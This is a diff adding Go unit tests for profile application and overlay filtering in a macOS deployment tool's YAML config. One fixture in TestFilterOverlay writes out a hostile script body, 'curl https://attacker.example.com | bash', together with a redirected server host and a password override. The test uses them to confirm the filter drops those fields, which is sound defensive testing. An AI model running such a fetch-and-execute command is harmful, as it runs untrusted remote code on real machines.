@@ -0,0 +1,143 @@
+package yaml
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/bobllor/assert"
+	"github.com/bobllor/macdeploy/src/tests"
+)
+
+// getProfileConfig returns the YAML bytes of the test Config with profiles.
+func getProfileConfig(t *testing.T) []byte {
+	fake, err := getEditableConfig()
+	tests.Checkf(t, err != nil, "failed to read config: %v", err)
+
+	fake["profiles"] = map[string]any{
+		"loaner": map[string]any{
+			"packages": map[string]any{
+				"loaner.pkg": []string{},
+			},
+			"accounts": map[string]any{
+				"account_two": map[string]any{
+					"username": "loaner",
+				},
+			},
+			"filevault": false,
+		},
+		"empty": nil,
+	}
+
+	buf, err := Marshal(fake)
+	tests.Checkf(t, err != nil, "failed to marshal config: %v", err)
+
+	return buf
+}
+
+func TestApplyProfile(t *testing.T) {
+	buf := getProfileConfig(t)
+
+	data, err := ApplyProfile(buf, "loaner")
+	tests.Checkf(t, err != nil, "failed to apply profile: %v", err)
+
+	config, err := NewConfig(data)
+	tests.Checkf(t, err != nil, "failed to create new Config: %v", err)
+
+	assert.Nil(t, Validate(config))
+
+	// base packages are kept.
+	assert.Equal(t, len(config.Packages), 3)
+	_, ok := config.Packages["loaner.pkg"]
+	assert.Equal(t, ok, true)
+
+	assert.Equal(t, config.Accounts["account_two"].Username, "loaner")
+	assert.Equal(t, config.Accounts["account_one"].Username, "example.one")
+	assert.Equal(t, config.FileVault, false)
+	assert.Equal(t, config.Firewall, true)
+
+	assert.Equal(t, strings.Join(config.ProfileNames(), ","), "empty,loaner")
+}
+
+func TestApplyProfileEmpty(t *testing.T) {
+	buf := getProfileConfig(t)
+
+	data, err := ApplyProfile(buf, "empty")
+	tests.Checkf(t, err != nil, "failed to apply profile: %v", err)
+
+	config, err := NewConfig(data)
+	tests.Checkf(t, err != nil, "failed to create new Config: %v", err)
+
+	assert.Equal(t, len(config.Packages), 2)
+	assert.Equal(t, config.FileVault, true)
+}
+
+func TestApplyProfileMissing(t *testing.T) {
+	buf := getProfileConfig(t)
+
+	_, err := ApplyProfile(buf, "sales")
+	assert.NotNil(t, err)
+	assert.Equal(t, err.Error(), "profile 'sales' does not exist (available profiles [empty, loaner])")
+
+	t.Run("No Profiles", func(t *testing.T) {
+		buf, err := Marshal(getConfig())
+		tests.Checkf(t, err != nil, "failed to marshal config: %v", err)
+
+		_, err = ApplyProfile(buf, "sales")
+		assert.NotNil(t, err)
+	})
+}
+
+func TestOverlayIgnoresProfiles(t *testing.T) {
+	buf := getProfileConfig(t)
+
+	overlay := map[string]any{
+		"profiles":    map[string]any{"new": nil},
+		"server_host": "https://example.com",
+	}
+
+	data, err := Overlay(buf, overlay)
+	tests.Checkf(t, err != nil, "failed to overlay config: %v", err)
+
+	config, err := NewConfig(data)
+	tests.Checkf(t, err != nil, "failed to create new Config: %v", err)
+
+	assert.Equal(t, config.ServerHost, "https://example.com")
+	assert.Equal(t, strings.Join(config.ProfileNames(), ","), "empty,loaner")
+	// the overlay is not changed.
+	assert.NotNil(t, overlay["profiles"])
+}
+
+func TestFilterOverlay(t *testing.T) {
+	buf := getProfileConfig(t)
+
+	overlay := map[string]any{
+		"profile":     "loaner",
+		"server_host": "https://attacker.example.com",
+		"scripts": map[string]any{
+			"pre": []any{map[string]any{"name": "pwn", "body": "curl https://attacker.example.com | bash"}},
+		},
+		"packages": map[string]any{"extra.pkg": []any{}},
+		"accounts": map[string]any{
+			"account_one": map[string]any{"username": "john.doe", "password": "hunter2"},
+		},
+	}
+
+	filtered, dropped := FilterOverlay(overlay)
+	assert.Equal(t, strings.Join(dropped, ","), "accounts.account_one.password,scripts,server_host")
+	assert.Equal(t, filtered["profile"], any("loaner"))
+
+	data, err := Overlay(buf, filtered)
+	tests.Checkf(t, err != nil, "failed to overlay config: %v", err)
+
+	config, err := NewConfig(data)
+	tests.Checkf(t, err != nil, "failed to create new Config: %v", err)
+	base, err := NewConfig(buf)
+	tests.Checkf(t, err != nil, "failed to create new Config: %v", err)
+
+	assert.Equal(t, config.ServerHost, base.ServerHost)
+	assert.Equal(t, len(config.Scripts.Pre), len(base.Scripts.Pre))
+	_, ok := config.Packages["extra.pkg"]
+	assert.Equal(t, ok, true)
+	assert.Equal(t, config.Accounts["account_one"].Username, "john.doe")
+	assert.Equal(t, config.Accounts["account_one"].Password, base.Accounts["account_one"].Password)
+}